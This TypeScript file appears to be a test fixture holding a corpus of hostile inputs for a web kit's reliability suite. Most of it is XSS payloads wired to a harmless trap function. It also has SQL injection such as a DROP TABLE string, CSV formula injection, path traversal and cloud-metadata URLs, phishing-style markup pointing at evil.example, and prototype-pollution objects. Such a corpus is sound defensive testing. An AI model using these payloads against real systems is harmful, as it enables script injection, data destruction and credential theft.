/**
 * The hostile-data corpus of the reliability suite (issue 10): values an attacker, a broken upstream
 * system or a careless import can put into any field the kit stores or renders.
 *
 * Every script-like payload calls the trap global {@link TRAP_NAME} with its own id, so a browser test
 * that defines `window.cbTrap` learns exactly which payload ran, if any did. The corpus is plain data
 * (no DOM, no Node built-ins): the sandbox tests, the client tests and the browser tests share it.
 *
 * Kinds:
 * - strings an HTML sink would execute (`script`, `event-handler`, `javascript-url`, `markup`,
 *   `template`): a correct renderer shows them as text;
 * - strings that are awkward but legitimate (`unicode`, `rtl`, `zero-width`, `huge`, `sql`, `csv`,
 *   `path`, `format`, `blank`): a server stores them verbatim or rejects them with a 4xx, never a 5xx;
 * - values of the wrong shape (`wrong-type`, `null`, `deep-nesting`, `prototype`): a server answers
 *   4xx where a string is required, an element shows its error state (never an uncaught exception).
 */

/** The global every executable payload calls: `cbTrap('<payload id>')`. */
export const TRAP_NAME = 'cbTrap';

export type HostileKind =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'markup'
  | 'template'
  | 'unicode'
  | 'rtl'
  | 'zero-width'
  | 'huge'
  | 'sql'
  | 'csv'
  | 'path'
  | 'format'
  | 'blank'
  | 'wrong-type'
  | 'null'
  | 'deep-nesting'
  | 'prototype';

export interface HostilePayload {
  /** Stable id, e.g. `script-07`; executable payloads pass it to the trap. */
  id: string;
  kind: HostileKind;
  /** The value as it travels in JSON (strings, numbers, booleans, null, arrays, objects). */
  value: unknown;
}

const trap = (id: string) => `${TRAP_NAME}('${id}')`;

/** `{id}` in a template is replaced by the payload's id, so each one reports itself. */
function family(kind: HostileKind, templates: readonly string[]): HostilePayload[] {
  return templates.map((template, index) => {
    const id = `${kind}-${String(index + 1).padStart(2, '0')}`;
    return { id, kind, value: template.replaceAll('{trap}', trap(id)).replaceAll('{id}', id) };
  });
}

const SCRIPT = [
  '<script>{trap}</script>',
  '<SCRIPT>{trap}</SCRIPT>',
  '<script type="module">{trap}</script>',
  '<script src="data:text/javascript,{trap}"></script>',
  '"><script>{trap}</script>',
  "'><script>{trap}</script>",
  '</title><script>{trap}</script>',
  '</textarea><script>{trap}</script>',
  '</style><script>{trap}</script>',
  '</script><script>{trap}</script>',
  '<scr<script>ipt>{trap}</scr</script>ipt>',
  '<script\x20type="text/javascript">{trap}</script>',
  '<<script>{trap};//<</script>',
  '<script>/*</script><script>*/{trap}</script>',
  '张三<script>{trap}</script>',
  '狮山镇唐边村"><script>{trap}</script>第三村民小组',
  '<noscript><p title="</noscript><img src=x onerror={trap}>">',
  '<template><script>{trap}</script></template>',
  '<iframe srcdoc="<script>parent.{trap}</script>"></iframe>',
  '<object data="data:text/html,<script>parent.{trap}</script>"></object>',
  '<embed src="data:text/html,<script>parent.{trap}</script>">',
  '<base href="javascript:{trap}//">',
  '<meta http-equiv="refresh" content="0;url=javascript:{trap}">',
  '<link rel="import" href="data:text/html,<script>{trap}</script>">',
];

const EVENT_HANDLER = [
  '<img src=x onerror={trap}>',
  '<img src="x" onerror="{trap}">',
  '<IMG SRC=x OnErRoR={trap}>',
  '<img src=x onerror=&#99;&#98;&#84;&#114;&#97;&#112;(1)>',
  '"><img src=x onerror={trap}>',
  "'><img src=x onerror={trap}>",
  '<svg onload={trap}>',
  '<svg><script>{trap}</script></svg>',
  '<svg><animate onbegin={trap} attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:{trap} /><text x=20 y=20>点击</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror={trap}>',
  '<body onload={trap}>',
  '<input autofocus onfocus={trap}>',
  '<select autofocus onfocus={trap}>',
  '<textarea autofocus onfocus={trap}>',
  '<details open ontoggle={trap}>',
  '<video><source onerror={trap}></video>',
  '<audio src=x onerror={trap}>',
  '<marquee onstart={trap}>',
  '<div onmouseover={trap} style="position:fixed;inset:0">悬停</div>',
  '<div onpointerenter={trap} style="width:9999px;height:9999px">x</div>',
  '<a onclick={trap} href="#">查看详情</a>',
  '<button onclick={trap}>提交</button>',
  '<form><button formaction=javascript:{trap}>提交</button></form>',
  '<img src=x:x onerror=eval(atob("Y2JUcmFwKCdldmVudC1oYW5kbGVyLTI1Jyk="))>',
  '<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart={trap}></b>',
  '<img src="x` `<script>{trap}</script>"` `>',
  '" onmouseover="{trap}" x="',
  "' onfocus='{trap}' autofocus='",
  '" autofocus onfocus="{trap}',
  '<img src=x onerror\u000b={trap}>',
  '<img/src/onerror={trap}>',
];

const JAVASCRIPT_URL = [
  'javascript:{trap}',
  'JavaScript:{trap}',
  'JAVASCRIPT:{trap}',
  ' javascript:{trap}',
  'java\tscript:{trap}',
  'java\nscript:{trap}',
  'java\rscript:{trap}',
  '\x01javascript:{trap}',
  'javascript&#58;{trap}',
  'javascript&colon;{trap}',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{trap}',
  'javascript:/*--></title></style></textarea></script><svg/onload={trap}>*/',
  'jav&#x09;ascript:{trap}',
  'vbscript:msgbox(1)',
  'data:text/html,<script>{trap}</script>',
  'data:text/html;base64,PHNjcmlwdD5jYlRyYXAoJ2phdmFzY3JpcHQtdXJsLTE2Jyk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload={trap}>',
  '<a href="javascript:{trap}">查看</a>',
  '<a href=" &#14;  javascript:{trap}">查看</a>',
  '<iframe src="javascript:{trap}"></iframe>',
];

const MARKUP = [
  '<b>加粗</b>',
  '<h1>标题</h1>',
  '<!-- 注释 --><b>x</b>',
  '<style>*{display:none!important}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<div style="position:fixed;inset:0;background:red;z-index:2147483647">遮罩</div>',
  '<form action=//evil.example><input name=password placeholder=请输入密码></form>',
  '<img src=//evil.example/pixel.gif width=1 height=1>',
  '</td></tr></table><table><tr><td>伪造单元格',
  '<slot name=x></slot>',
  '<cb-data-table base-url="//evil.example" dataset="x"></cb-data-table>',
  '<custom-element onclick={trap}>',
  '&lt;script&gt;{trap}&lt;/script&gt;',
  '&amp;lt;b&amp;gt;',
  '<![CDATA[<script>{trap}</script>]]>',
  '<?xml version="1.0"?><x>',
  '<!DOCTYPE html>',
  '＜script＞{trap}＜/script＞',
];

const TEMPLATE = [
  '{{constructor.constructor("{trap}")()}}',
  '${{trap}}',
  '#{{trap}}',
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '[[${7*7}]]',
  '{{#each this}}{{/each}}',
  '[点击](javascript:{trap})',
  '![图片](x" onerror="{trap})',
];

const UNICODE = [
  '\u{20000}\u{2A6D6}\u{30000}',
  '👨‍👩‍👧‍👦🏳️‍🌈🇨🇳',
  'Z̷̡̢̛̩̮͎͈͈̜̙̝̾̈́̌̿͊̋̒͘͝a̸̡̩̬͓̗̖̫̖͉̓̍̎̀̌̈́̚͝l̴̢̗̰̟̩̝͙̀͒g̵̼̗̜̣͖̻̩͎̦̣̈́o̷͈̟̪̦͎̹̫̒͊',
  '\ud800',
  '\udfff',
  'a\ud800b\udc00c',
  '\u0000',
  'before\u0000after',
  '\u0001\u0002\u0003\u0007\u0008\u001b[31m红色\u001b[0m',
  '\u2028\u2029',
  '\ufeff带BOM',
  '\uffff\ufffe',
  '\r\n\r\n\t',
  '丨丶丿乚亅',
  '𠮷野家',
  'Ａ Ｂ Ｃ　全角空格',
  'İıŞş ǅ ß ﬁ',
  '\u00ad软\u00ad连\u00ad字符',
  '\u0301\u0301\u0301',
  '𝐀𝐁𝐂 𝕏',
];

const RTL = [
  '\u202e申请人\u202c',
  '\u202egnp.exe',
  'file\u202ecod.exe',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u200f\u200e混合方向',
  '\u2066隔离\u2069\u2067右到左\u2069',
  'abc\u202edef\u202dghi',
  '\u061c\u202b嵌入\u202c',
  '440605\u202e1234',
];

const ZERO_WIDTH = [
  '\u200b',
  '张\u200b三',
  '\u200c\u200d\u2060\ufeff',
  'java\u200bscript:{trap}',
  '<scr\u200bipt>{trap}</scr\u200bipt>',
  '\u200b\u200b\u200b\u200b\u200b\u200b\u200b\u200b',
  '13\u200b926081234',
  '440605\u200d198203151312',
  '\u2063\u2062\u2061',
  '\u180e蒙古文元音分隔符',
];

const HUGE = [
  'x'.repeat(256),
  '长'.repeat(1_000),
  'a'.repeat(10_000),
  '<b>'.repeat(5_000),
  '🐉'.repeat(10_000),
  'y'.repeat(100_000),
  ' '.repeat(50_000),
  `${'<img src=x onerror={trap}>'.repeat(2_000)}`,
  'a'.repeat(1_000_000),
  `${'\u202e'.repeat(1_000)}尾`,
];

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE homestead_applications; --",
  '" OR ""="',
  "1; SELECT * FROM sqlite_master --",
  "' UNION SELECT sql FROM sqlite_master --",
  '%',
  '_',
  '%_%',
  '\\',
  "'''",
  "') OR 1=1 --",
  '*/ OR 1=1 /*',
];

const CSV = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example","点击")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '"a","b"\r\n"c"',
  ',,,,',
];

const PATH = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '/api/v1/__sandbox/stats',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '//evil.example/x',
];

const FORMAT = ['%s%s%s%n', '%x%x%x', '{0}{1}', '%d', 'NaN', 'Infinity', '-0', '1e309', '0x41', 'true', 'null', 'undefined', '[object Object]'];

const BLANK = ['', ' ', '   \t  ', '\n', '\u3000'];

const WRONG_TYPES: unknown[] = [
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  9007199254740993,
  true,
  false,
  [],
  ['a', 'b'],
  [null],
  {},
  { toString: 'x' },
  { valueOf: 1 },
  { $ne: null },
  { $gt: '' },
  [[[]]],
  { length: 1e9 },
];

const NULLS: unknown[] = [null, [null, null], { value: null }];

function nested(depth: number, leaf: unknown, wrap: (inner: unknown) => unknown): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i += 1) value = wrap(value);
  return value;
}

const DEEP: unknown[] = [
  nested(10, 'x', (inner) => [inner]),
  nested(100, 'x', (inner) => [inner]),
  nested(1_000, 'x', (inner) => [inner]),
  nested(2_500, 'x', (inner) => [inner]),
  nested(10, 'x', (inner) => ({ a: inner })),
  nested(100, 'x', (inner) => ({ a: inner })),
  nested(1_000, null, (inner) => ({ a: inner, b: [inner === null ? 1 : 0] })),
  nested(2_000, '<img src=x onerror=cbTrap("deep-nesting-08")>', (inner) => ({ child: inner })),
];

function prototypeValues(): unknown[] {
  // JSON.parse keeps `__proto__` as an own property, exactly as it arrives over the wire.
  return [
    JSON.parse('{"__proto__":{"polluted":"yes"}}'),
    JSON.parse('{"constructor":{"prototype":{"polluted":"yes"}}}'),
    JSON.parse('{"__proto__":{"toString":"x"}}'),
    JSON.parse('[{"__proto__":{"isAdmin":true}}]'),
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
  ];
}

function values(kind: HostileKind, list: readonly unknown[]): HostilePayload[] {
  return list.map((value, index) => ({ id: `${kind}-${String(index + 1).padStart(2, '0')}`, kind, value }));
}

/** The corpus: every payload once, in a stable order. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = Object.freeze([
  ...family('script', SCRIPT),
  ...family('event-handler', EVENT_HANDLER),
  ...family('javascript-url', JAVASCRIPT_URL),
  ...family('markup', MARKUP),
  ...family('template', TEMPLATE),
  ...family('unicode', UNICODE),
  ...family('rtl', RTL),
  ...family('zero-width', ZERO_WIDTH),
  ...family('huge', HUGE),
  ...family('sql', SQL),
  ...family('csv', CSV),
  ...family('path', PATH),
  ...family('format', FORMAT),
  ...family('blank', BLANK),
  ...values('wrong-type', WRONG_TYPES),
  ...values('null', NULLS),
  ...values('deep-nesting', DEEP),
  ...values('prototype', prototypeValues()),
]);

/** The payloads that are strings (they may be stored); the rest have the wrong shape for a string field. */
export const HOSTILE_STRINGS: readonly (HostilePayload & { value: string })[] = HOSTILE_PAYLOADS.filter(
  (p): p is HostilePayload & { value: string } => typeof p.value === 'string',
);

/** Whether a payload carries something an HTML sink could execute (it calls the trap). */
export function isExecutable(payload: HostilePayload): boolean {
  return typeof payload.value === 'string' && payload.value.includes(TRAP_NAME);
}

/** A short printable label for reports: the id and the first characters, control characters escaped. */
export function describePayload(payload: HostilePayload): string {
  const text = typeof payload.value === 'string' ? payload.value : JSON.stringify(payload.value) ?? String(payload.value);
  const head = text.length > 60 ? `${text.slice(0, 60)}… (${text.length} chars)` : text;
  return `${payload.id} ${JSON.stringify(head)}`;
}
